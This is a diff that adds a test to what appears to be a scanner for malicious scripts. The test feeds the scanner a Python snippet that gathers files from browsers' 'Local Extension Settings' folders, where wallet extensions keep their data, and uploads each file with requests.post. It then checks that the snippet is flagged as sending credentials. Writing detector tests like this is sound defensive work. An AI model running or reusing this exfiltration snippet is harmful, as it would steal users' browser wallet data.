@@ -56,6 +56,16 @@ def test_listening_to_every_key_is_graver() -> None:
     assert severities(text, Language.PYTHON, "script-spies") == [Severity.HIGH]
 
 
+def test_the_settings_of_extensions_hold_wallets() -> None:
+    """What browsers keep for their extensions is a credential, whichever file of it is taken."""
+    text = (
+        "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/.config/*/Local Extension Settings/*')):\n"
+        "    requests.post(u, files={'f': open(p, 'rb')})"
+    )
+
+    assert severities(text, Language.PYTHON, "script-sends-credentials")
+
+
 def test_what_a_browser_keeps_is_a_credential() -> None:
     """Cookies that a library takes from a browser's profile are followed as the file itself would be."""
     text = (
